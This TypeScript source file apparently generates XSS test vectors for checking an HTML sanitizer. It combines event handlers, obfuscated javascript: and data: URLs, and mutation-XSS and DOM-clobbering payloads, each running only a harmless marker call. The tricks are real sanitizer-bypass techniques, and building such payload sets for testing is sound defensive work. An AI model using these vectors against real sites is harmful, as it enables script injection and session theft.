/**
 * Payloads of our own, made by rule: every way that we know of to run a script from markup, in every spelling. What they run
 * is `top.ran(self)`, so that it is known where.
 */

const RUN = 'top.ran(self)';

export const EVENTS =
  `abort afterprint afterscriptexecute animationcancel animationend animationiteration animationstart auxclick beforecopy
  beforecut beforeinput beforematch beforepaste beforeprint beforescriptexecute beforetoggle beforeunload begin blur
  canplay canplaythrough cancel change click close command contextmenu copy cuechange cut dblclick drag dragend dragenter
  dragexit dragleave dragover dragstart drop durationchange emptied end ended error focus focusin focusout formdata
  fullscreenchange fullscreenerror gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata
  loadedmetadata loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup
  mousewheel pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove
  pointerout pointerover pointerrawupdate pointerup popstate progress ratechange repeat reset resize scroll scrollend
  scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange selectstart slotchange stalled
  storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend
  transitionrun transitionstart unload volumechange waiting webkitanimationend wheel`.split(/\s+/);

const HOLDERS = [
  ...[
    '<a href="#" EVENT>x</a>',
    '<body EVENT>',
    '<button EVENT>x</button>',
    '<details open EVENT>x',
  ],
  ...['<dialog open EVENT>x</dialog>', '<div EVENT contenteditable>x</div>', '<form EVENT><input>'],
  ...[
    '<iframe EVENT></iframe>',
    '<img src=x: EVENT>',
    '<input autofocus EVENT>',
    '<marquee EVENT>x',
  ],
  ...[
    '<math><mi EVENT>x</mi></math>',
    '<object data=x: EVENT></object>',
    '<select EVENT><option>x',
  ],
  ...[
    '<style EVENT>x{}</style>',
    '<svg EVENT><rect width=9 height=9 /></svg>',
    '<x-y EVENT>x</x-y>',
  ],
  ...[
    '<svg><animate attributeName=x dur=1s EVENT /></svg>',
    '<svg><a EVENT><text y=9>x</text></a></svg>',
  ],
  ...['<template shadowrootmode=open EVENT><b EVENT>x</template>', '<textarea EVENT>x</textarea>'],
  ...['<video src=x: EVENT><source src=x: EVENT></video>', '<zzz EVENT tabindex=1>x</zzz>'],
  ...['<svg><foreignObject><p EVENT>x</p></foreignObject></svg>', '<audio src=x: EVENT></audio>'],
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  ` \r\n javascript:${RUN}`,
  `javascript\t:${RUN}`,
  `javascript://x%0a${RUN}`,
  `javascript:'<script>${RUN}</script>'`,
  `&#106;avascript&colon;${RUN}`,
  `vbscript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `blob:javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,${btoa(`<script>${RUN}</script>`)}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>${RUN}</x:script>`,
  `data:text/javascript,${RUN}`,
];

const PLACES = [
  ...[
    '<a href="URL">x</a>',
    '<a href="URL" target=_top>x</a>',
    '<a href="URL" target=_blank ping="URL">x</a>',
  ],
  ...[
    '<area href="URL">',
    '<map name=m><area href="URL" shape=default></map><img usemap="#m" src=x:>',
  ],
  ...[
    '<form action="URL"><button>x</button></form>',
    '<form><button formaction="URL">x</button></form>',
  ],
  ...[
    '<form id=f></form><input form=f type=submit formaction="URL">',
    '<form action="URL"><input type=image src="URL">',
  ],
  ...[
    '<iframe src="URL"></iframe>',
    '<frameset><frame src="URL"></frameset>',
    '<object data="URL"></object>',
  ],
  ...[
    '<embed src="URL">',
    '<script src="URL"></script>',
    '<link rel=stylesheet href="URL">',
    '<link rel=import href="URL">',
  ],
  ...[
    '<base href="URL"><a href="#">x</a>',
    '<meta http-equiv=refresh content="0;url=URL">',
    '<img src="URL">',
  ],
  ...[
    '<img srcset="URL 1x">',
    '<video poster="URL" src="URL"></video>',
    '<audio src="URL">',
    '<track src="URL">',
  ],
  ...[
    '<body background="URL">',
    '<table background="URL"><td>x',
    '<q cite="URL">x</q>',
    '<bgsound src="URL">',
  ],
  ...[
    '<svg><a href="URL"><text y=20>x</text></a></svg>',
    '<svg><a xlink:href="URL"><text y=20>x</text></a></svg>',
  ],
  ...[
    '<svg><use href="URL"/></svg>',
    '<svg><image href="URL" width=9 height=9 /></svg>',
    '<svg><script href="URL"/></svg>',
  ],
  ...['<svg><a><animate attributeName=href values="URL"/><text y=20>x</text></a></svg>'],
  ...['<svg><a><set attributeName=href to="URL"/><text y=20>x</text></a></svg>'],
  ...[
    '<svg><a><animate attributeName=xlink:href from="URL" to="URL"/><text y=20>x</text></a></svg>',
  ],
  ...[
    '<svg><feImage href="URL"/></svg>',
    '<math href="URL">x</math>',
    '<math><mtext xlink:href="URL">x</mtext></math>',
  ],
  ...[
    '<style>@import "URL";</style>',
    '<p style="background:url(\'URL\')">x',
    '<applet code="URL"></applet>',
  ],
  ...[
    '<p style="behavior:url(URL);-moz-binding:url(URL)">x',
    '<iframe srcdoc="<a href=\'URL\'>x</a>"></iframe>',
  ],
  ...[
    '<template shadowrootmode=open><a href="URL">x</a></template>',
    '<div><a href="URL" download>x</a></div>',
  ],
  ...[
    '<portal src="URL"></portal>',
    '<fencedframe src="URL"></fencedframe>',
    '<isindex action="URL">',
  ],
];

/** Ways in which scripts hide from those who read markup. */
const DISGUISED = [
  `<script>${RUN}</script>`,
  `<script type=module>${RUN}</script>`,
  `<SCRIPT/x>${RUN}</SCRIPT>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script>top&#46;ran(self)</script></svg>`,
  `<math><annotation-xml encoding=text/html><img src=x: onerror=${RUN}></annotation-xml></math>`,
  `<math><mtext><table><mglyph><style><img src=x: onerror=${RUN}>`,
  `<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x: onerror='${RUN}'>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=x: onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x: onerror=${RUN}>">`,
  `<textarea></textarea><img src=x: onerror=${RUN}>`,
  `<xmp><p title="</xmp><img src=x: onerror=${RUN}>">`,
  `<template><script>${RUN}</script><img src=x: onerror=${RUN}></template>`,
  `<div><template shadowrootmode=closed><img src=x: onerror=${RUN}></template></div>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x: onerror=${RUN}&gt;"></iframe>`,
  `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe name="${RUN}" src="javascript:eval(name)"></iframe>`,
  `<svg onload=${RUN}>`,
  `<svg><g onload=${RUN}></g></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${RUN}></set><rect width=50 height=50 /></svg>`,
  `<svg><animate attributeName=onload values=${RUN} begin=0s dur=1s fill=freeze /></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${RUN}</handler></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x:' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${RUN}>x</b>`,
  `<b style="transition:color 1ms" onfocus=${RUN} tabindex=1 autofocus>x</b>`,
  `<input onfocus=${RUN} autofocus><input autofocus onblur=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<button popovertarget=p>x</button><p popover id=p onbeforetoggle=${RUN}>x</p>`,
  `<img src=x: one\u0000rror=x onerror\n=\n${RUN}//`,
  `<img/src/onerror=${RUN}>`,
  `<img src='x:'onerror='${RUN}'/**/>`,
  `<a is=x-y onclick=${RUN}>x</a>`,
  `<object type=image/svg+xml data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>"></object>`,
  `<link rel=stylesheet href="data:text/css,*{}" onload=${RUN}>`,
  `<body onload=${RUN}><body onpageshow=${RUN}>`,
  `<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'"><script>${RUN}</script>`,
  `<?xml-stylesheet type="text/xsl" href="data:text/xml,<x:stylesheet/>"?><script>${RUN}</script>`,
  `<form id=attributes><input name=attributes><input name=append onfocus=${RUN} autofocus></form>`,
  `<form><input name=parentNode><input name=nodeType><input name=localName></form><img src=x: onerror=${RUN}>`,
  `<img name=defaultView src=x: onerror=${RUN}><img name=documentElement><img name=adoptedStyleSheets>`,
];

export function vectors(): string[] {
  const all = [...DISGUISED];
  for (const place of PLACES) {
    for (const address of ADDRESSES) {
      all.push(place.replaceAll('URL', () => address.replaceAll('"', '&quot;')));
    }
  }
  for (const holder of HOLDERS) {
    for (const event of EVENTS) all.push(holder.replaceAll('EVENT', `on${event}=${RUN}`));
  }
  return all;
}
